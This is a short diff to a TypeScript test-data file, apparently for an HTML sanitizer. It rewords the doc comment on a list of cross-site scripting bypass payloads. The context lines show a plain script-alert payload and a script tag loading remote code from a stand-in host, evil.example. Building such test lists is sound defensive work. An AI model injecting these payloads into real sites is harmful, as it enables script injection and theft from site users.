@@ -1,4 +1,4 @@
-/** Known ways to smuggle a script through a filter, each with the trick it stands for. */
+/** Known ways to smuggle a script through a filter, each with the name of its trick. */
 export const attacks: [name: string, html: string][] = [
   ['plain script', '<script>alert(1)</script>'],
   ['script with a source', '<script src=//evil.example/x.js></script>'],
